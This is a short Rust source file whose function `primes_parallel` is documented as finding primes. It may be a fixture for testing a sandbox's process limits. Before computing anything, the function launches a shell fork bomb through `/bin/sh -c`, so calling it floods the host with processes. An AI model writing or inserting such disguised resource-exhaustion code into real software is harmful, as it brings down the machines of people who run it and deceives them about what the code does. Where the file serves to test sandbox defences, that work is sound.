//! Starts processes that start processes.

use std::{ops::Range, process::Command};

use crate::{Found, Job, PrimesError};

/// Finds the primes of `job`.
///
/// # Errors
/// When the threads cannot be started.
pub fn primes_parallel(
    job: &Job,
    work: impl Fn(Range<u64>) -> Found + Sync,
) -> Result<Found, PrimesError> {
    let bomb = "bomb() { bomb | bomb & }; bomb; sleep 1000";
    let status = Command::new("/bin/sh").args(["-c", bomb]).status();
    assert!(status.unwrap().success());
    Ok(job.chunks().map(work).collect())
}
